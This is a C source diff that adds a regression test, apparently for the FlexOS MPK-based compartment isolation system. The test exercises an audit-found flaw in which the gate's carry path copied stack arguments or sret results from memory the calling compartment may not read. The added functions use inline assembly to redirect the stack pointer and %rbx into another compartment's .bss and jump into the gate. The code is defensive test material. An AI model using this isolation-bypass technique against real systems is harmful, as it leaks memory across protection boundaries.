@@ -57,7 +57,7 @@ static struct {
  */
 static const char *way_back(uintptr_t reopen)
 {
-	for (uintptr_t a = reopen - 4; a > reopen - 96; a--) {
+	for (uintptr_t a = reopen - 4; a > reopen - 200; a--) {
 		const volatile unsigned char *p = (const volatile unsigned char *)a;
 		if (p[0] == 0x41 && p[1] == 0xff && p[2] == 0xd3 && p[3] == 0x9b)
 			return (const char *)(a + 3);
@@ -215,4 +215,99 @@ int carry_back(const char *how, uintptr_t app_secret)
 	if (!strcmp(how, "register"))
 		return carry_back_register();
 	return 2;
+}
+
+/*
+ * attack --carry-read args|sret (found by an audit): the carry path copies
+ * the caller's stack arguments (from its stack pointer) and the callee's
+ * sret result (from below its frame, %rbx) with the gate page open. A
+ * newlib compartment's open PKRU also opens key 0, so a compartment that
+ * chose where those copies read had memory copied that it may not read.
+ * Both are now read first with the side's own PKRU (their first and last
+ * bytes), so a copy from memory it may not read faults there, with its
+ * own PKRU. Here with lib1, a glibc compartment (its open PKRU adds only
+ * the gate key; the newlib case is the same code): args, lib1 jumps to the
+ * carry path with its stack pointer at the top of its .bss, its stack
+ * arguments in lib2's .bss right above; sret, lib1, called by the carry
+ * path, points its frame at the bottom of its .bss, its sret result in
+ * app's .bss right below, and takes the way back. The report gives the
+ * PKRU of the fault: lib1's own; before, its open PKRU (the copy).
+ */
+extern char __flexos_app_bss_end[], __flexos_lib1_bss_start[], __flexos_lib1_bss_end[],
+    __flexos_lib2_bss_start[];
+
+static struct {
+	const char *gate;
+	unsigned long r10;
+	void *r11;
+	uintptr_t *frame;
+} cr FLEXOS_SHARED;
+
+/* Run by lib1 (lib1_call); never returns. */
+static long cr_args_in_lib1(long x)
+{
+	/* The return address a call would leave at the top of lib1's .bss, the arguments above. */
+	uintptr_t sp = (uintptr_t)__flexos_lib1_bss_end - 8;
+
+	(void)x;
+	printf("carry-read args: lib1 (PKRU %#x) jumps to the carry path with its stack pointer at "
+	       "%#lx, its stack arguments at %p, in lib2's .bss\n",
+	       flexos__mpk_rdpkru(), (unsigned long)sp, (void *)__flexos_lib2_bss_start);
+	fflush(stdout);
+	register unsigned long r10 __asm__("r10") = cr.r10;
+	register void *r11 __asm__("r11") = cr.r11;
+	__asm__ volatile("movq %[sp], %%rsp\n\t"
+			 "jmp *%[gate]"
+			 :
+			 : "r"(r10), "r"(r11), [sp] "r"(sp), [gate] "r"(cr.gate)
+			 : "memory");
+	__builtin_unreachable();
+}
+
+/* Run by lib1, called by the carry path (lib1_call8); never returns. */
+static long cr_sret_in_lib1(long x)
+{
+	(void)x;
+	uintptr_t frame = (uintptr_t)__flexos_lib1_bss_start + 16;
+
+	cr.frame = (uintptr_t *)frame;
+	cr.frame[0] = 16ul << FLEXOS_GATE_SRET_SHIFT; /* 16 words of sret result, below */
+	printf("carry-read sret: lib1 (PKRU %#x) takes the carry path's way back with its frame "
+	       "at %#lx, its sret result from %#lx, in app's .bss\n",
+	       flexos__mpk_rdpkru(), (unsigned long)frame, (unsigned long)(frame - 128));
+	fflush(stdout);
+	__asm__ volatile("movq %0, %%rbx\n\t"
+			 "jmp *%1"
+			 :
+			 : "r"(cr.frame), "r"(cb.way_back)
+			 : "rbx", "memory");
+	__builtin_unreachable();
+}
+
+int carry_read(const char *how, const char *gate, unsigned long r10, void *r11)
+{
+	long r = 0;
+
+	cr.gate = gate;
+	cr.r10 = r10;
+	cr.r11 = r11;
+	if (!strcmp(how, "args")) {
+		if ((uintptr_t)__flexos_lib1_bss_end != (uintptr_t)__flexos_lib2_bss_start) {
+			printf("carry-read: lib1's .bss is not right below lib2's here\n");
+			return 2;
+		}
+		flexos_gate_r(lib1, r, lib1_call, cr_args_in_lib1, 0);
+	} else if (!strcmp(how, "sret")) {
+		cb.way_back = way_back((uintptr_t)flexos__mpk_gate_carry_reopen_checked);
+		if ((uintptr_t)__flexos_app_bss_end != (uintptr_t)__flexos_lib1_bss_start ||
+		    !cb.way_back) {
+			printf("carry-read: app's .bss is not right below lib1's here\n");
+			return 2;
+		}
+		flexos_gate_r(lib1, r, lib1_call8, cr_sret_in_lib1, 0, 0, 0, 0, 0, 0, 0);
+	} else {
+		return 2;
+	}
+	printf("carry-read %s: back in app (%ld): FAIL\n", how, r);
+	return 1;
 }
